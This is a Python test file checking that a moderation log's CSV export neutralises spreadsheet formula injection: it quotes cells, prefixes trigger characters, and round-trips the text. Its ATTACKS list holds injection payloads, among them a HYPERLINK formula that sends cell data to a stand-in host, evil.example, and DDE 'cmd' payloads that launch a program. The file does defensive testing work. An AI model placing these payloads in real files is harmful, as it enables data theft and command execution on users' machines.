"""The CSV export against formula injection, as OWASP advises for CSV: a cell that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single quote (so a
spreadsheet shows it as text, never runs it), every cell is quoted, and `read_records`
takes the quote off again, so any text round-trips (also one that begins with a quote)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from moderation.log.export import read_records, serialize

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def record(user_text: str, reply: str, notice: str = "", session: str = "s1") -> dict:
    """A finished turn's record, as `iter_records` gives it."""
    return {
        "id": "t1",
        "started_at": "2026-11-27T10:00:00",
        "ended_at": "2026-11-27T10:00:02",
        "session": session,
        "outcome": "answered",
        "notice": notice,
        "guard": "offline guard",
        "chat": "offline chat",
        "chat_started": True,
        "tokens": 3,
        "stopped": False,
        "policy": {"threshold": 0.5, "custom": [{"code": "C1", "name": "=1+1"}]},
        "policy_hash": "abc",
        "text_policy": "all",
        "user_text": user_text,
        "reply": reply,
        "verdicts": [{"stage": "prompt", "safe": True, "note": "-1", "raw": "@safe"}],
        "labels": [
            {
                "stage": "prompt",
                "seq": 0,
                "label": "false_negative",
                "categories": ["S1"],
                "note": user_text,
                "source": "operator",
                "author": "=op",
                "at": "2026-11-28T09:00:00.000Z",
            }
        ],
    }


# any text, and often one that begins with a trigger or with quotes of its own
texts = st.one_of(st.text(), st.builds(str.__add__, st.sampled_from(TRIGGERS + ("'", "''", "'=")), st.text()))


def cells(document: str) -> list[str]:
    """Every cell as a spreadsheet reads it (the header's included)."""
    return [cell for row in csv.reader(io.StringIO(document, newline="")) for cell in row]


def csv_of(*records: dict) -> str:
    return "".join(serialize(records, "csv"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_the_text_or_the_reply_is_written_as_text(attack):
    document = csv_of(record(attack, attack, notice=attack, session=attack))
    written = cells(document)
    assert not [c for c in written if c.startswith(TRIGGERS)], document
    assert written.count("'" + attack) == 4  # shown as typed, after the quote that keeps it text
    assert read_records(document, "csv") == [record(attack, attack, notice=attack, session=attack)]


def test_every_cell_is_quoted():
    document = csv_of(record("plain", "words"))
    for line in document.splitlines():
        assert line.startswith('"') and line.endswith('"'), line


@given(user_text=texts.filter(bool), reply=texts, notice=texts)
@example(user_text="'=1+1", reply="'", notice="''+x")  # a quote of its own before a trigger
@example(user_text="'", reply="''", notice="'-")
def test_any_text_round_trips_and_no_written_cell_begins_a_formula(user_text, reply, notice):
    turn = record(user_text, reply, notice=notice)
    document = csv_of(turn)
    assert read_records(document, "csv") == [turn]
    assert not [c for c in cells(document) if c.startswith(TRIGGERS)]
